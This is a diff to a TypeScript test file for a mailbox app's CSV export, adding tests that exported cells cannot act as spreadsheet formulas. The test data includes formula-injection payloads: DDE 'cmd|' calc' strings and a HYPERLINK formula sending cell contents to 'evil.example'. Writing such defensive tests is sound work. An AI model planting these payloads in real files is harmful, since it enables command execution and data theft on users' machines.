@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { expect, vi } from "vitest";
 import {
   it,
@@ -8,16 +9,10 @@ import {
   type TestMailbox,
 } from "../fixtures.ts";
 
-/** The rows of an export by the names of their columns, read as RFC 4180 has it. */
+/** The rows of an export by the names of their columns. */
 async function exported(mailbox: TestMailbox, query = ""): Promise<Record<string, string>[]> {
   const csv = await mailbox.page(`/mailbox/export.csv${query}`);
-  const rows: string[][] = [[]];
-  for (const [, cell = "", end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
-    rows.at(-1)?.push(cell.replaceAll('""', '"'));
-    if (end !== ",") rows.push([]);
-  }
-  const [head = [], ...others] = rows.slice(0, -1);
-  return others.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at] ?? ""])));
+  return parse(csv, { columns: true });
 }
 
 it("an export is a table that a spreadsheet reads", async ({ mailbox }) => {
@@ -36,12 +31,51 @@ it("an export is a table that a spreadsheet reads", async ({ mailbox }) => {
 it("an export runs no formula, whatever it begins with", async ({ mailbox }) => {
   const formulas = [
     '=HYPERLINK("https://x.example")',
-    ...["＝1+1", "＋1", "−5", "＠1", "﹣ 1", "\n=2+2", " =1+1", "\u00a0@x", "\u200b=1"],
+    ...["＝1+1", "＋1", "−5", "＠1", "﹣ 1", " =1+1", "\u00a0@x", "\u200b=1", "-2+3+cmd|' /C calc'!A0"],
   ];
   for (const message of formulas) await mailbox.post({ message });
   const shown = (await exported(mailbox)).map(({ message }) => message);
   expect(shown).toEqual(formulas.map((formula) => `'${formula}`).toReversed());
 });
+
+/** Texts that are more than one cell to a spreadsheet that separates by other signs, and what the export has instead. */
+const ofSeveralCells = [
+  ["hello\n=cmd|'/c calc'!A0", "hello\n'=cmd|'/c calc'!A0"],
+  ['a;=HYPERLINK("http://evil.example/?"&A1;"x")', `a;'=HYPERLINK("http://evil.example/?"&A1;"x")`],
+  ["x\t=1+1", "x\t'=1+1"],
+  ["line\r\n@SUM(A1)", "line\n'@SUM(A1)"],
+  ['";=1+1;"', `";'=1+1;"`],
+  ['a;"=1+1', `a;'"=1+1`],
+  ["a;\t \u00a0＝1+1", "a;\t' \u00a0＝1+1"],
+  ["\n=2+2", "\n'=2+2"],
+  ["our wishes;\n- a shop\n+ a blog", "our wishes;\n'- a shop\n'+ a blog"],
+  ["1 + 1 = 2; me@example.org - yes", "1 + 1 = 2; me@example.org - yes"],
+] as const;
+
+it("an export marks each cell of a text that is a formula elsewhere, and keeps its words", async ({
+  mailbox,
+}) => {
+  for (const [message] of ofSeveralCells) await mailbox.post({ message });
+  const shown = (await exported(mailbox)).map(({ message }) => message);
+  expect(shown).toEqual(ofSeveralCells.map(([, marked]) => marked).toReversed());
+});
+
+it.for([[","], [";"], ["\t"], [";", "\t"], [",", ";", "\t"]] as const)(
+  "an export has no formula in any cell when %j separates",
+  async (delimiter, { mailbox }) => {
+    for (const [text] of ofSeveralCells) {
+      await mailbox.post({ message: text, subject: text, name: text.replaceAll("://", " ") });
+    }
+    const csv = await mailbox.page("/mailbox/export.csv");
+    // Without a comma the quotes are not where a cell begins and ends, and readers differ in what they make of them. So a
+    // cell begins after every separator here, and quotes before a text are dropped.
+    const quote = delimiter.includes(",") ? '"' : null;
+    const rows = parse(csv, { delimiter: [...delimiter], quote, relax_column_count: true });
+    const cells = rows.flat().map((cell) => cell.replace(/^"+/, "").normalize("NFKC").trim());
+    expect(cells.join("")).toContain("HYPERLINK");
+    expect(cells.filter((cell) => /^[=+@\u2212-]/.test(cell))).toEqual([]);
+  },
+);
 
 it("an export is a file of mails that a mail program reads", async ({ mailbox }) => {
   const texts = ["From the start\n>From here, नमस्ते", "The second"];
